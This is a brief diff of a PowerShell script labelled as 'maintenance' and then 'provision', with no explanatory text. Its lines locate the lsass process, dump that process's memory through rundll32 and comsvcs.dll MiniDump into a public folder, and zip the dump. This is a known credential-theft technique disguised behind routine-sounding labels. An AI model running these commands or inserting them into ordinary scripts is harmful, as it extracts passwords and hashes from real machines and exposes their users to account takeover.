@@ -1,4 +1,4 @@
-# maintenance 6982 v2
+# provision 4454 v2
 $p = Get-Process lsass
 rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.Id C:\Users\Public\lsass.dmp full
 Compress-Archive C:\Users\Public\lsass.dmp C:\Users\Public\l.zip
